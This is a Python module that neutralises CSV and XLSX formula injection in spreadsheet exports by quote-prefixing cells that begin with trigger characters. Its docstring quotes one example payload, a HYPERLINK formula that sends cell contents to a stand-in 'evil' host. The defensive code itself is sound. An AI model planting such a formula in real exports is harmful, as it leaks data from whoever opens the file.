"""Spreadsheet cells that are never formulas (CSV/formula injection, issue #14.23).

A text that starts with ``= + - @`` (or a tab / carriage return) is read as a formula by Excel,
LibreOffice and WPS when it sits in a CSV file, and ``=…`` is stored as a live formula by openpyxl.
A visitor's free-text note ``=HYPERLINK("http://evil/?"&A1,"点我")`` would then run in the office
of whoever opens the export. OWASP's advice (https://owasp.org/www-community/attacks/CSV_Injection):
prefix such a cell with a single quote. Every writer of CSV or XLSX in this code base goes through
:func:`sheet_value` (CSV) or :func:`put` (XLSX); both decide with :func:`formula_like`.

* CSV: the value is written as ``'=…`` (the quote is visible: that is the point). :func:`restore`
  takes it off again when a roster CSV is read back, so export → import gives the same records.
* XLSX: every string is written as a *text* cell (never ``data_type="f"``), and a formula-like
  text also gets the cell style ``quotePrefix`` — exactly what Excel stores when a person types
  ``'=…``: the cell shows ``=…`` as text and stays text when edited. The value is unchanged.
* Plain numbers — ``+8613812345678`` (E.164), ``-12.5`` — are left alone in both: digits with a
  sign cannot call a function, and a phone number stays readable (in XLSX it is a text cell, so
  it is never turned into ``8.61E+12`` either).

The full-width ``＝＋－＠`` count as triggers too (Chinese input methods type them, and some
office suites convert them); neutralising them costs nothing in XLSX (style only).
"""

from __future__ import annotations

import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
QUOTE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")


def formula_like(text) -> bool:
    """True when a spreadsheet would read ``text`` as a formula (plain numbers excepted)."""
    if not isinstance(text, str) or not text.startswith(TRIGGERS):
        return False
    return _PLAIN_NUMBER.fullmatch(text) is None


def sheet_value(value):
    """``value`` as it may be written into a CSV cell: formula-like text gets a leading ``'``.

    A text that already starts with ``'`` gets one more, so that :func:`restore` is exact."""
    if isinstance(value, str) and (formula_like(value) or value.startswith(QUOTE)):
        return QUOTE + value
    return value


def restore(text: str) -> str:
    """The inverse of :func:`sheet_value` for a cell read back from a CSV we wrote."""
    if text.startswith(QUOTE) and (formula_like(text[1:]) or text[1:].startswith(QUOTE)):
        return text[1:]
    return text


def put(cell, value):
    """Set an openpyxl cell (normal or write-only) to ``value``; a string is always a text cell,
    and a formula-like one is quote-prefixed (Excel's own marker for "typed with a '"). Returns the cell."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl would store "=…" as a formula
        if formula_like(value):
            cell.quotePrefix = True
    return cell


def text_cell(ws, value):
    """A write-only cell for ``ws.append`` holding ``value`` safely (see :func:`put`)."""
    from openpyxl.cell import WriteOnlyCell

    return put(WriteOnlyCell(ws), value)
